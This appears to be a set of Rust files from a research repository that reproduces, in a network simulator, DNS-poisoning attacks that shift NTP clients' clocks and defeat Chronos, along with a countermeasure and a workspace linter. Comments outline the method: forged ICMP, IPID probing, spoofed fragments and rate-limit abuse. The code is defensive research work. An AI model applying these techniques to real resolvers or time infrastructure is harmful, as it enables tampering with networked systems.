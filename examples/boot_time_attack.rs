//! Boot-time attack across all seven NTP client implementations — the
//! live reproduction of Table I's boot-time column.
//!
//! ```sh
//! cargo run --release --example boot_time_attack
//! ```

use timeshift::prelude::*;

fn main() {
    println!("== Table I (live): boot-time attack vs every client model ==\n");
    println!(
        "{:<12} {:>10} {:>12} {:>16}",
        "client", "pool-share", "boot-attack", "observed shift"
    );
    for kind in ClientKind::all() {
        let outcome = run_boot_time_attack(
            ScenarioConfig { seed: 42 ^ kind as u64, ..ScenarioConfig::default() },
            kind,
        );
        let share =
            kind.pool_share().map(|s| format!("{:.1}%", s * 100.0)).unwrap_or_else(|| "n/l".into());
        println!(
            "{:<12} {share:>10} {:>12} {:>14.1}s",
            kind.name(),
            if outcome.success { "SHIFTED" } else { "survived" },
            outcome.observed_shift
        );
    }
    println!("\n(paper: every client is vulnerable at boot — there is no");
    println!(" mitigation for the very first DNS lookup; §V-A1)");
    println!("\n{}", experiments::boot_budget());
}
