//! The Chronos attack (paper §VI): one poisoned DNS response defeats the
//! "provably MitM-secure" NTP enhancement — plus the N ≤ 11 bound sweep
//! and the pool-sanity countermeasure.
//!
//! ```sh
//! cargo run --release --example chronos_attack
//! ```

use timeshift::prelude::*;

fn main() {
    println!("== Chronos pool poisoning (§VI) ==\n");
    print!("{}", experiments::format_chronos_bound(&experiments::chronos_bound()));

    println!("\n-- live end-to-end run (compressed 24-lookup schedule) --");
    let outcome = run_chronos_attack(
        ScenarioConfig { seed: 11, ..ScenarioConfig::default() },
        SimDuration::from_mins(3),
    );
    println!(
        "attacker pool fraction: {:.1}%  (needs >= 66.7%)",
        outcome.malicious_fraction * 100.0
    );
    println!("final Chronos clock offset: {:+.1} s  (paper: -500 s)", outcome.observed_shift);
    println!("attack succeeded: {}", outcome.success);

    println!("\n-- countermeasure: pool-generation sanity checks (§VI-B) --");
    let mut hardened = PoolGenerator::new(24, PoolSanity::hardened());
    for round in 0..4u8 {
        let honest: Vec<std::net::Ipv4Addr> =
            (0..4).map(|i| std::net::Ipv4Addr::new(192, 0, round + 1, i)).collect();
        hardened.absorb(&honest, 150);
    }
    let malicious: Vec<std::net::Ipv4Addr> =
        (1..=89u32).map(|i| std::net::Ipv4Addr::from(0x4242_0100 + i)).collect();
    let added = hardened.absorb(&malicious, 2 * 86_400);
    println!(
        "hardened generator absorbed {added} of 89 malicious addresses \
         (TTL check rejected the response); pool stays honest: {:.0}% attacker",
        hardened.fraction_in(|a| a.octets()[0] == 0x42) * 100.0
    );
}
