//! Run-time attack (paper §IV-B, Table II): break a converged client's
//! associations with rate-limit abuse, then redirect its replacement DNS
//! lookup — in both knowledge scenarios, P1 (upstreams known) and P2
//! (refid-leak discovery).
//!
//! ```sh
//! cargo run --release --example runtime_attack
//! ```

use timeshift::prelude::*;

fn main() {
    println!("== Table II (live): run-time attack durations ==\n");
    let rows = experiments::table2(7, Scale::quick().workers);
    print!("{}", experiments::format_table2(&rows));
    println!("\nShape checks (the reproduction target):");
    let p2 = rows[0].duration_mins.expect("ntpd P2");
    let p1 = rows[1].duration_mins.expect("ntpd P1");
    let openntpd = rows[2].duration_mins.expect("openntpd");
    let chrony = rows[3].duration_mins.expect("chrony");
    println!("  P2 slower than P1:          {} ({p2:.0} vs {p1:.0} min)", p2 > p1);
    println!("  chrony slower than ntpd P1: {} ({chrony:.0} vs {p1:.0} min)", chrony > p1);
    println!("  openntpd slowest:           {} ({openntpd:.0} min)", openntpd > chrony);
    println!("\nTable III context — probability the pool even allows it:");
    print!("{}", experiments::format_table3(&experiments::table3()));
}
