//! Quickstart: the headline result of the paper in one run — an off-path
//! attacker poisons a victim resolver's view of `pool.ntp.org` and every
//! NTP client booting behind it takes time shifted by −500 seconds.
//!
//! ```sh
//! cargo run --release --example quickstart
//! ```

use timeshift::prelude::*;

fn main() {
    println!("== timeshift quickstart: boot-time DNS→NTP attack (DSN'20 §IV-A) ==\n");

    // 1. Build the victim network: a recursive resolver, the pool.ntp.org
    //    nameserver fleet (23 NS, all glue in the 2nd fragment at MTU 548),
    //    8 honest pool NTP servers, and the attacker's infrastructure
    //    (1 malicious nameserver + 89 NTP servers serving -500 s).
    let config = ScenarioConfig::default();
    let mut scenario = Scenario::build(config);
    println!(
        "victim network: resolver {}, {} pool nameservers, {} honest NTP servers",
        scenario.addrs.resolver,
        scenario.addrs.ns_list.len(),
        scenario.addrs.pool_servers.len()
    );

    // 2. Launch the off-path poisoner: forged ICMP frag-needed, IPID
    //    probing, spoofed-second-fragment planting every 25 s.
    scenario.launch_poisoner();
    let poisoned_at = scenario
        .run_until_condition(SimDuration::from_secs(15), SimDuration::from_mins(30), |s| {
            s.poisoner().map(OffPathPoisoner::fully_poisoned).unwrap_or(false)
        })
        .expect("poisoning lands");
    let stats = scenario.poisoner().expect("poisoner").stats();
    println!(
        "resolver fully poisoned after {:.1} simulated minutes \
         ({} ICMPs, {} probes, {} spoofed fragments planted)",
        poisoned_at.as_secs_f64() / 60.0,
        stats.icmps_sent,
        stats.probes_sent,
        stats.fragments_planted
    );

    // 3. Boot the victim: a default ntpd-like client.
    scenario.spawn_victim(ClientKind::Ntpd);
    scenario.sim.run_for(SimDuration::from_mins(10));
    let victim = scenario.victim().expect("victim");
    println!(
        "\nvictim booted behind the poisoned resolver:\n  \
         servers used: {:?}\n  clock offset from true time: {:+.3} s (paper: -500 s)",
        victim.live_servers(),
        victim.offset_secs(scenario.sim.now())
    );
    assert!((victim.offset_secs(scenario.sim.now()) + 500.0).abs() < 1.0);
    println!("\nattack reproduced: the client's clock was shifted via DNS alone.");
}
