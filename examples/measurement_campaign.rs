//! The full measurement campaign: regenerates every survey-style table and
//! figure of the paper's evaluation (Tables I, III, IV, V; Figs. 5, 6, 7;
//! the §VII-A rate-limit scan; the §VIII-B3 shared-resolver study).
//!
//! ```sh
//! cargo run --release --example measurement_campaign            # quick scale
//! cargo run --release --example measurement_campaign -- --paper # full scale
//! ```

use timeshift::prelude::*;

fn main() {
    let paper = std::env::args().any(|a| a == "--paper");
    let scale = if paper { Scale::paper() } else { Scale::quick() };
    println!("== timeshift measurement campaign (scale: {scale:?}) ==\n");

    println!("{}", experiments::format_table1(&experiments::table1(scale.seed, scale.workers)));

    println!("{}", experiments::format_table3(&experiments::table3()));

    let survey = experiments::resolver_survey(scale);
    println!("{}", experiments::format_table4(&survey));
    println!("{}", experiments::format_fig6(&survey));
    println!("{}", experiments::format_fig7(&survey));

    println!("{}", experiments::format_table5(&experiments::table5(scale)));

    println!("{}", experiments::format_fig5(&experiments::fig5(scale)));

    let pool_ns = experiments::pool_ns_scan(scale);
    println!(
        "§VII-B — pool.ntp.org nameservers: {}/{} fragment <= 548 B (paper: 16/30), {} signed (paper: 0)\n",
        pool_ns.cdf.iter().find(|(t, _)| *t == 548).map(|(_, c)| *c).unwrap_or(0),
        pool_ns.scanned,
        pool_ns.signed
    );

    println!("{}", experiments::format_ratelimit(&experiments::ratelimit_scan(scale)));

    println!("{}", experiments::format_shared(&experiments::shared_scan(scale)));

    println!("{}", experiments::format_chronos_bound(&experiments::chronos_bound()));

    println!("{}", experiments::boot_budget());
}
