//! The full measurement campaign: regenerates every survey-style table and
//! figure of the paper's evaluation (Tables I, III, IV, V; Figs. 5, 6, 7;
//! the §VII-A rate-limit scan; the §VIII-B3 shared-resolver study), then
//! re-runs the registry-addressable scans through the sharded `campaign`
//! orchestration layer and prints their merged digests.
//!
//! ```sh
//! cargo run --release --example measurement_campaign            # quick scale
//! cargo run --release --example measurement_campaign -- --paper # full scale
//! cargo run --release --example measurement_campaign -- \
//!     --shards 4 --workers 2 --master-seed 7   # exercise the campaign layer
//! ```
//!
//! `--shards` sets the deterministic shard count, `--workers` caps how
//! many shards run concurrently, and `--master-seed` overrides the
//! campaign seed — the printed digests are identical for any shard or
//! worker count.

use campaign::prelude::*;
use timeshift::prelude::*;

fn flag_value(name: &str) -> Option<String> {
    let args: Vec<String> = std::env::args().collect();
    args.iter().position(|a| a == name).and_then(|i| args.get(i + 1).cloned())
}

fn parsed_flag<T: std::str::FromStr>(name: &str, default: T) -> T {
    flag_value(name).and_then(|v| v.parse().ok()).unwrap_or(default)
}

fn main() {
    let paper = std::env::args().any(|a| a == "--paper");
    let mut scale = if paper { Scale::paper() } else { Scale::quick() };
    scale.seed = parsed_flag("--master-seed", scale.seed);
    let shards: usize = parsed_flag("--shards", 2).max(1);
    let workers: usize = parsed_flag("--workers", shards).max(1);
    println!("== timeshift measurement campaign (scale: {scale:?}) ==\n");

    println!("{}", experiments::format_table1(&experiments::table1(scale.seed, scale.workers)));

    println!("{}", experiments::format_table3(&experiments::table3()));

    let survey = experiments::resolver_survey(scale);
    println!("{}", experiments::format_table4(&survey));
    println!("{}", experiments::format_fig6(&survey));
    println!("{}", experiments::format_fig7(&survey));

    println!("{}", experiments::format_table5(&experiments::table5(scale)));

    println!("{}", experiments::format_fig5(&experiments::fig5(scale)));

    let pool_ns = experiments::pool_ns_scan(scale);
    println!(
        "§VII-B — pool.ntp.org nameservers: {}/{} fragment <= 548 B (paper: 16/30), {} signed (paper: 0)\n",
        pool_ns.cdf.iter().find(|(t, _)| *t == 548).map(|(_, c)| *c).unwrap_or(0),
        pool_ns.scanned,
        pool_ns.signed
    );

    println!("{}", experiments::format_ratelimit(&experiments::ratelimit_scan(scale)));

    println!("{}", experiments::format_shared(&experiments::shared_scan(scale)));

    println!("{}", experiments::format_chronos_bound(&experiments::chronos_bound()));

    println!("{}", experiments::boot_budget());

    // ---- the sharded campaign layer ----
    //
    // The same scans, re-run through the `campaign` subsystem: K
    // deterministic shards, per-shard checkpoints, merged in shard order
    // with online aggregation. The digests printed here are bit-identical
    // for any --shards/--workers combination (and to a `campaign run`
    // of the same scenario, scale and seed).
    println!("\n== campaign orchestration ({shards} shards, {workers} workers) ==\n");
    for name in ["ratelimit", "pmtud", "chronos_bound"] {
        let scenario = campaign::registry::find(name).expect("registered scenario");
        let dir = std::env::temp_dir()
            .join(format!("measurement-campaign-{}-{name}-x{shards}", std::process::id()));
        std::fs::remove_dir_all(&dir).ok();
        let config = CampaignConfig {
            scenario,
            scale,
            scale_label: if paper { "paper".into() } else { "quick".into() },
            shards,
            workers,
            mode: ExecMode::InProcess,
            dir: dir.clone(),
            verbose: false,
        };
        let summary = run_campaign(&config).expect("campaign runs");
        print!("{}", summary.render_text());
        std::fs::remove_dir_all(dir).ok();
    }

    // ---- self-healing supervision demo ----
    //
    // The same chronos_bound campaign, run under the lease supervisor
    // with a deterministically injected crash on shard 1: the supervisor
    // re-leases the dead shard from its checkpoint and the healed digest
    // matches the in-process run above bit-for-bit. Needs the `campaign`
    // worker binary; skipped (not failed) when it isn't built.
    let exe = std::env::var("CAMPAIGN_EXE").map(std::path::PathBuf::from).ok().or_else(|| {
        let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
        ["target/release/campaign", "target/debug/campaign"]
            .iter()
            .map(|rel| root.join(rel))
            .find(|p| p.is_file())
    });
    let Some(exe) = exe else {
        println!(
            "\n(supervision demo skipped: campaign binary not built — `cargo build -p campaign`)"
        );
        return;
    };
    println!("\n== supervised campaign (injected crash on shard 1, self-healed) ==\n");
    let scenario = campaign::registry::find("chronos_bound").expect("registered scenario");
    let dir = std::env::temp_dir()
        .join(format!("measurement-campaign-{}-supervised", std::process::id()));
    std::fs::remove_dir_all(&dir).ok();
    let config = CampaignConfig {
        scenario,
        scale,
        scale_label: if paper { "paper".into() } else { "quick".into() },
        shards,
        workers,
        mode: ExecMode::Subprocess { exe: exe.clone() },
        dir: dir.clone(),
        verbose: false,
    };
    let mut faults = FaultPlan::none();
    faults.push_cli("1:crash-after=1").expect("valid fault entry");
    let sup = SupervisorConfig { poll_interval_ms: 5, faults, ..SupervisorConfig::default() };
    let run = run_supervised(&config, &exe, &sup).expect("supervised campaign settles");
    print!("{}", run.summary.render_text());
    for r in run.reports.iter().filter(|r| !r.failures.is_empty()) {
        println!(
            "  shard {} healed after {} attempt(s): {}",
            r.shard,
            r.attempts,
            r.failures.last().map(String::as_str).unwrap_or_default()
        );
    }
    assert!(run.summary.complete, "the injected crash must heal, not quarantine");
    std::fs::remove_dir_all(dir).ok();
}
