//! A minimal Rust lexer: just enough to tell *code* apart from comments,
//! strings, raw strings, char literals and lifetimes.
//!
//! The rules in [`crate::rules`] match on identifier/punct token
//! sequences, so the only correctness requirement here is that nothing
//! inside a comment, any flavour of string literal (`"…"`, `r#"…"#`,
//! `b"…"`, `c"…"`), or a char literal ever produces an `Ident` token —
//! otherwise `// call thread_rng()` in prose or `"HashMap"` in a message
//! would raise false positives. Comments are kept (with exact line
//! spans) because three rules read them: `// SAFETY:` proximity for R1,
//! `// simlint: allow(rule)` suppressions, and the `// simlint:
//! hot-path` file marker.

/// Where a token starts: 1-based line and (character) column.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Span {
    /// 1-based line number.
    pub line: u32,
    /// 1-based character column.
    pub col: u32,
}

/// A non-comment token.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum TokKind {
    /// Identifier or keyword (`unsafe`, `HashMap`, `r#type`, …).
    Ident(String),
    /// Single punctuation character (`::` is two `Punct(':')` tokens).
    Punct(char),
    /// Any string-ish literal (string, raw string, byte string, char).
    Literal,
    /// Numeric literal, with its raw text (the enum-size budgets read
    /// the value; suffixes and `_` separators are kept verbatim).
    Number(String),
    /// A lifetime such as `'a` (distinguished from char literals).
    Lifetime,
}

/// One lexed token with its source position.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Tok {
    /// What kind of token this is.
    pub kind: TokKind,
    /// Where it starts.
    pub span: Span,
}

impl Tok {
    /// The identifier text, if this token is an identifier.
    pub fn ident(&self) -> Option<&str> {
        match &self.kind {
            TokKind::Ident(s) => Some(s),
            _ => None,
        }
    }

    /// True when this token is the punctuation character `c`.
    pub fn is_punct(&self, c: char) -> bool {
        self.kind == TokKind::Punct(c)
    }

    /// The numeric value, if this token is an integer literal (underscore
    /// separators and a type suffix are tolerated).
    pub fn number(&self) -> Option<u64> {
        match &self.kind {
            TokKind::Number(raw) => {
                let digits: String =
                    raw.chars().take_while(|c| c.is_ascii_digit() || *c == '_').collect();
                digits.replace('_', "").parse().ok()
            }
            _ => None,
        }
    }
}

/// A line (`//…`) or block (`/* … */`) comment, doc or plain.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Comment {
    /// Comment text without the `//` / `/*` markers (block comments keep
    /// interior newlines).
    pub text: String,
    /// 1-based line the comment starts on.
    pub start_line: u32,
    /// 1-based line the comment ends on (== `start_line` for `//`).
    pub end_line: u32,
}

/// The result of lexing one file.
#[derive(Debug, Default)]
pub struct Lexed {
    /// Code tokens, in source order.
    pub toks: Vec<Tok>,
    /// Comments, in source order.
    pub comments: Vec<Comment>,
}

impl Lexed {
    /// True when line `line` lies inside some comment.
    pub fn line_in_comment(&self, line: u32) -> bool {
        self.comments.iter().any(|c| c.start_line <= line && line <= c.end_line)
    }

    /// The comment covering `line`, if any (innermost is irrelevant —
    /// comments never nest across distinct entries).
    pub fn comment_at(&self, line: u32) -> Option<&Comment> {
        self.comments.iter().find(|c| c.start_line <= line && line <= c.end_line)
    }

    /// True when some code token starts on `line`.
    pub fn line_has_code(&self, line: u32) -> bool {
        self.toks.iter().any(|t| t.span.line == line)
    }
}

struct Cursor {
    chars: Vec<char>,
    pos: usize,
    line: u32,
    col: u32,
}

impl Cursor {
    fn peek(&self) -> Option<char> {
        self.chars.get(self.pos).copied()
    }

    fn peek2(&self) -> Option<char> {
        self.chars.get(self.pos + 1).copied()
    }

    fn peek_at(&self, n: usize) -> Option<char> {
        self.chars.get(self.pos + n).copied()
    }

    fn bump(&mut self) -> Option<char> {
        let c = self.chars.get(self.pos).copied()?;
        self.pos += 1;
        if c == '\n' {
            self.line += 1;
            self.col = 1;
        } else {
            self.col += 1;
        }
        Some(c)
    }

    fn span(&self) -> Span {
        Span { line: self.line, col: self.col }
    }
}

fn is_ident_start(c: char) -> bool {
    c.is_alphabetic() || c == '_'
}

fn is_ident_continue(c: char) -> bool {
    c.is_alphanumeric() || c == '_'
}

/// Lexes `source` into tokens and comments. Unterminated constructs
/// (strings, block comments) consume to end of file rather than erroring:
/// the linter must never crash on the code it checks.
pub fn lex(source: &str) -> Lexed {
    let mut cur = Cursor { chars: source.chars().collect(), pos: 0, line: 1, col: 1 };
    let mut out = Lexed::default();

    while let Some(c) = cur.peek() {
        if c.is_whitespace() {
            cur.bump();
            continue;
        }
        // Comments.
        if c == '/' && cur.peek2() == Some('/') {
            let start = cur.span();
            let mut text = String::new();
            while let Some(c) = cur.peek() {
                if c == '\n' {
                    break;
                }
                text.push(c);
                cur.bump();
            }
            let stripped = text.trim_start_matches('/').trim_start_matches('!');
            out.comments.push(Comment {
                text: stripped.to_string(),
                start_line: start.line,
                end_line: start.line,
            });
            continue;
        }
        if c == '/' && cur.peek2() == Some('*') {
            let start = cur.span();
            cur.bump();
            cur.bump();
            let mut depth = 1u32;
            let mut text = String::new();
            while depth > 0 {
                match (cur.peek(), cur.peek2()) {
                    (Some('/'), Some('*')) => {
                        depth += 1;
                        cur.bump();
                        cur.bump();
                    }
                    (Some('*'), Some('/')) => {
                        depth -= 1;
                        cur.bump();
                        cur.bump();
                    }
                    (Some(c), _) => {
                        text.push(c);
                        cur.bump();
                    }
                    (None, _) => break,
                }
            }
            let end_line = cur.line;
            out.comments.push(Comment { text, start_line: start.line, end_line });
            continue;
        }
        // Identifiers — including raw identifiers and the string-literal
        // prefixes (r"", b"", br#""#, c"").
        if is_ident_start(c) {
            let span = cur.span();
            let mut ident = String::new();
            while let Some(c) = cur.peek() {
                if !is_ident_continue(c) {
                    break;
                }
                ident.push(c);
                cur.bump();
            }
            let raw_capable = matches!(ident.as_str(), "r" | "br" | "cr" | "rb");
            let str_prefix = raw_capable || matches!(ident.as_str(), "b" | "c");
            match cur.peek() {
                // r#ident (raw identifier) vs r#"…"# (raw string).
                Some('#') if raw_capable => {
                    let mut hashes = 0usize;
                    while cur.peek_at(hashes) == Some('#') {
                        hashes += 1;
                    }
                    if cur.peek_at(hashes) == Some('"') {
                        for _ in 0..hashes {
                            cur.bump();
                        }
                        skip_raw_string(&mut cur, hashes);
                        out.toks.push(Tok { kind: TokKind::Literal, span });
                    } else {
                        // Raw identifier: consume `#` and the identifier.
                        cur.bump();
                        let mut raw = String::new();
                        while let Some(c) = cur.peek() {
                            if !is_ident_continue(c) {
                                break;
                            }
                            raw.push(c);
                            cur.bump();
                        }
                        out.toks.push(Tok { kind: TokKind::Ident(raw), span });
                    }
                }
                Some('"') if str_prefix => {
                    if raw_capable {
                        skip_raw_string(&mut cur, 0);
                    } else {
                        skip_string(&mut cur);
                    }
                    out.toks.push(Tok { kind: TokKind::Literal, span });
                }
                Some('\'') if ident == "b" => {
                    skip_char_literal(&mut cur);
                    out.toks.push(Tok { kind: TokKind::Literal, span });
                }
                _ => out.toks.push(Tok { kind: TokKind::Ident(ident), span }),
            }
            continue;
        }
        // Plain strings.
        if c == '"' {
            let span = cur.span();
            skip_string(&mut cur);
            out.toks.push(Tok { kind: TokKind::Literal, span });
            continue;
        }
        // Char literal or lifetime.
        if c == '\'' {
            let span = cur.span();
            match cur.peek2() {
                Some('\\') => {
                    skip_char_literal(&mut cur);
                    out.toks.push(Tok { kind: TokKind::Literal, span });
                }
                Some(n) if is_ident_start(n) => {
                    // `'a` → lifetime; `'a'` → char literal. Scan the
                    // identifier run, then look for a closing quote.
                    let mut len = 1;
                    while cur.peek_at(1 + len).map(is_ident_continue) == Some(true) {
                        len += 1;
                    }
                    if cur.peek_at(1 + len) == Some('\'') {
                        skip_char_literal(&mut cur);
                        out.toks.push(Tok { kind: TokKind::Literal, span });
                    } else {
                        cur.bump(); // the quote
                        for _ in 0..len {
                            cur.bump();
                        }
                        out.toks.push(Tok { kind: TokKind::Lifetime, span });
                    }
                }
                _ => {
                    skip_char_literal(&mut cur);
                    out.toks.push(Tok { kind: TokKind::Literal, span });
                }
            }
            continue;
        }
        // Numbers (suffixes and separators kept in the raw text).
        if c.is_ascii_digit() {
            let span = cur.span();
            let mut raw = String::new();
            while let Some(c) = cur.peek() {
                if c.is_alphanumeric() || c == '_' {
                    raw.push(c);
                    cur.bump();
                } else {
                    break;
                }
            }
            out.toks.push(Tok { kind: TokKind::Number(raw), span });
            continue;
        }
        // Everything else: single punctuation character.
        let span = cur.span();
        cur.bump();
        out.toks.push(Tok { kind: TokKind::Punct(c), span });
    }
    out
}

/// Consumes a `"…"` string (cursor on the opening quote), honouring `\"`
/// escapes and `\\`.
fn skip_string(cur: &mut Cursor) {
    cur.bump(); // opening quote
    while let Some(c) = cur.bump() {
        match c {
            '\\' => {
                cur.bump();
            }
            '"' => break,
            _ => {}
        }
    }
}

/// Consumes a raw string body: cursor on the opening quote, `hashes`
/// already consumed; ends at `"` followed by the same number of `#`s.
fn skip_raw_string(cur: &mut Cursor, hashes: usize) {
    cur.bump(); // opening quote
    while let Some(c) = cur.bump() {
        if c == '"' {
            let mut n = 0usize;
            while n < hashes && cur.peek() == Some('#') {
                cur.bump();
                n += 1;
            }
            if n == hashes {
                break;
            }
        }
    }
}

/// Consumes a char literal (cursor on the opening quote).
fn skip_char_literal(cur: &mut Cursor) {
    cur.bump(); // opening quote
    while let Some(c) = cur.bump() {
        match c {
            '\\' => {
                cur.bump();
            }
            '\'' => break,
            _ => {}
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn idents(src: &str) -> Vec<String> {
        lex(src).toks.iter().filter_map(|t| t.ident().map(str::to_string)).collect()
    }

    #[test]
    fn strings_and_comments_produce_no_idents() {
        let src = r##"
            // thread_rng in a comment
            /* HashMap in a block /* nested Instant::now */ comment */
            let a = "thread_rng() HashMap";
            let b = r#"Instant::now " embedded quote"#;
            let c = b"rand::random";
            let d = 'x';
            let e = '\'';
        "##;
        let ids = idents(src);
        assert!(!ids.iter().any(|i| i == "thread_rng" || i == "HashMap" || i == "Instant"));
        assert_eq!(ids, vec!["let", "a", "let", "b", "let", "c", "let", "d", "let", "e"]);
    }

    #[test]
    fn lifetimes_are_not_char_literals() {
        let lexed = lex("fn f<'a>(x: &'a str) -> &'a str { x }");
        let lifetimes = lexed.toks.iter().filter(|t| t.kind == TokKind::Lifetime).count();
        assert_eq!(lifetimes, 3);
        // And a real char literal containing a quote-adjacent ident char.
        let lexed = lex("let c = 'a';");
        assert!(lexed.toks.iter().any(|t| t.kind == TokKind::Literal));
    }

    #[test]
    fn raw_identifiers_lex_as_idents() {
        assert_eq!(idents("let r#type = 1;"), vec!["let", "type"]);
    }

    #[test]
    fn spans_are_one_based_lines_and_cols() {
        let lexed = lex("a\n  bb\n");
        assert_eq!(lexed.toks[0].span, Span { line: 1, col: 1 });
        assert_eq!(lexed.toks[1].span, Span { line: 2, col: 3 });
    }

    #[test]
    fn comment_spans_cover_block_comments() {
        let lexed = lex("/* one\ntwo\nthree */ code");
        assert_eq!(lexed.comments.len(), 1);
        assert_eq!((lexed.comments[0].start_line, lexed.comments[0].end_line), (1, 3));
        assert!(lexed.line_in_comment(2));
        assert!(lexed.line_has_code(3));
    }

    #[test]
    fn doc_comment_code_fences_are_comment_text() {
        // ``` fences inside /// doc comments must never surface as code.
        let src = "/// ```\n/// let m = HashMap::new();\n/// ```\nfn f() {}";
        assert_eq!(idents(src), vec!["fn", "f"]);
    }

    #[test]
    fn unterminated_constructs_do_not_panic() {
        lex("let s = \"unterminated");
        lex("/* unterminated");
        lex("let s = r#\"unterminated");
    }
}
