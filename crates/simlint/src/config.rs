//! Embedded workspace configuration: which trees are walked, which paths
//! may read the wall clock, and which enums must carry a compile-time
//! size assertion.
//!
//! The tables live in code rather than a config file on purpose: changing
//! an invariant should be a reviewed diff to the linter, not an edit to a
//! dotfile nobody reads. All paths are workspace-root-relative with `/`
//! separators (the walker normalises).

/// Directory trees (relative to the workspace root) that simlint walks.
/// `vendor/` stand-ins other than `bytes` mirror *external* crates'
/// APIs and are exempt; `vendor/bytes` grew the first-party pool and is
/// held to the same standard as `crates/*`.
pub const WALK_ROOTS: &[&str] = &["src", "tests", "examples", "crates", "vendor/bytes"];

/// Directory names skipped anywhere in the walk. `fixtures` holds
/// deliberately-violating sources for the CI negative smoke.
pub const SKIP_DIRS: &[&str] = &["target", "fixtures"];

/// Path prefixes where wall-clock reads (R3) are legitimate: benchmark
/// timing is *about* wall time. Everything else must take time from the
/// simulator so results stay a pure function of `(scale, seed, index)`.
pub const WALL_CLOCK_ALLOW: &[&str] = &["crates/bench/"];

/// Path fragments that mark a file as test code: R2 (std hash containers)
/// and R5 (hot-path allocations) do not apply there. `#[cfg(test)]`
/// modules inside library files are detected separately.
pub const TEST_PATH_MARKERS: &[&str] = &["tests/", "benches/"];

/// Enums on the hot list (R6): every one must have a compile-time
/// `size_of` assertion somewhere in its crate, so "aggressive" struct
/// refactors (ROADMAP item 4) cannot silently fatten the event loop.
/// Format: (crate directory, enum names defined in that crate).
pub const HOT_ENUMS: &[(&str, &[&str])] =
    &[("crates/netsim", &["Action", "EventKind"]), ("vendor/bytes", &["Repr", "MutRepr"])];

/// Structs on the hot list with explicit byte budgets (R6): every one
/// must have a compile-time `size_of::<Name>() <= N` assertion in its
/// crate with `N` no larger than the budget here. These are the types the
/// event loop moves per event; the budgets are the cache-shape contract
/// `BENCH_engine.json` records `ns_per_move` against.
/// Format: (crate directory, [(struct name, max bytes)]).
pub const HOT_STRUCTS: &[(&str, &[(&str, u64)])] = &[
    (
        "crates/netsim",
        &[
            ("Ipv4Packet", 40),
            ("UdpDatagram", 32),
            ("Datagram", 40),
            ("NetStack", 24),
            ("StackHot", 16),
            ("HostSlot", 48),
        ],
    ),
    ("vendor/bytes", &[("Bytes", 24)]),
];

/// Path prefixes where raw console macros (R7) are legitimate library
/// code: `crates/bench/` *is* console output (artifact banners),
/// `crates/obs/` defines the sanctioned `console!` funnel itself.
/// Binaries (`main.rs`, `src/bin/`, `examples/`) are exempted by shape
/// in [`console_allowed`] — a CLI's job is to print.
pub const CONSOLE_ALLOW: &[&str] = &["crates/bench/", "crates/obs/"];

/// Every rule simlint knows, by id. `allow(...)` comments naming
/// anything else are themselves an error.
pub const RULES: &[&str] = &[
    "safety",
    "std-hash",
    "wall-clock",
    "ambient-rng",
    "hot-alloc",
    "enum-size",
    "console",
    "allow-syntax",
];

/// True when `path` (root-relative, `/`-separated) is test code by
/// location alone.
pub fn is_test_path(path: &str) -> bool {
    TEST_PATH_MARKERS.iter().any(|m| path.starts_with(m) || path.contains(&format!("/{m}")))
}

/// True when `path` may read the wall clock.
pub fn wall_clock_allowed(path: &str) -> bool {
    WALL_CLOCK_ALLOW.iter().any(|p| path.starts_with(p))
}

/// True when `path` may call raw console macros (R7): binaries and
/// examples by shape, plus the [`CONSOLE_ALLOW`] prefixes.
pub fn console_allowed(path: &str) -> bool {
    path.ends_with("/main.rs")
        || path == "main.rs"
        || path.contains("/bin/")
        || path.starts_with("examples/")
        || path.contains("/examples/")
        || CONSOLE_ALLOW.iter().any(|p| path.starts_with(p))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_path_detection() {
        assert!(is_test_path("tests/pool.rs"));
        assert!(is_test_path("crates/netsim/tests/wheel_vs_heap.rs"));
        assert!(is_test_path("crates/bench/benches/table3.rs"));
        assert!(!is_test_path("crates/netsim/src/wheel.rs"));
        assert!(!is_test_path("src/lib.rs"));
    }

    #[test]
    fn wall_clock_allowlist_covers_bench_only() {
        assert!(wall_clock_allowed("crates/bench/src/lib.rs"));
        assert!(!wall_clock_allowed("crates/netsim/src/sim.rs"));
        assert!(!wall_clock_allowed("crates/campaign/src/exec.rs"));
    }

    #[test]
    fn console_allowlist_covers_binaries_and_the_funnel() {
        assert!(console_allowed("crates/campaign/src/main.rs"));
        assert!(console_allowed("crates/bench/src/bin/perfgate.rs"));
        assert!(console_allowed("crates/bench/src/lib.rs"));
        assert!(console_allowed("crates/obs/src/lib.rs"));
        assert!(console_allowed("examples/demo.rs"));
        assert!(!console_allowed("crates/campaign/src/supervisor.rs"));
        assert!(!console_allowed("crates/netsim/src/sim.rs"));
    }
}
