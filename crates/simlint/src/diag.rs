//! Rustc-style single-line diagnostics:
//! `file:line:col: error[simlint::rule]: message`.

use std::fmt;

/// One lint finding.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Diagnostic {
    /// Workspace-root-relative path with `/` separators.
    pub path: String,
    /// 1-based line (0 for whole-crate findings with no anchor line).
    pub line: u32,
    /// 1-based column.
    pub col: u32,
    /// Rule id, e.g. `std-hash` (rendered as `simlint::std-hash`).
    pub rule: &'static str,
    /// Human explanation, including what to use instead.
    pub message: String,
}

impl Diagnostic {
    /// Sort key: path, then position — so output order is stable no
    /// matter which rule fired first.
    pub fn sort_key(&self) -> (String, u32, u32, &'static str) {
        (self.path.clone(), self.line, self.col, self.rule)
    }
}

impl fmt::Display for Diagnostic {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{}:{}:{}: error[simlint::{}]: {}",
            self.path, self.line, self.col, self.rule, self.message
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn renders_rustc_style() {
        let d = Diagnostic {
            path: "crates/x/src/lib.rs".into(),
            line: 12,
            col: 5,
            rule: "std-hash",
            message: "no".into(),
        };
        assert_eq!(d.to_string(), "crates/x/src/lib.rs:12:5: error[simlint::std-hash]: no");
    }
}
