//! `simlint` — the workspace invariant linter.
//!
//! The repo's value rests on two contracts: results are a bit-identical
//! pure function of `(scale, seed, index)` at any worker/shard count, and
//! the packet hot path holds a zero-heap-allocation steady state. Both
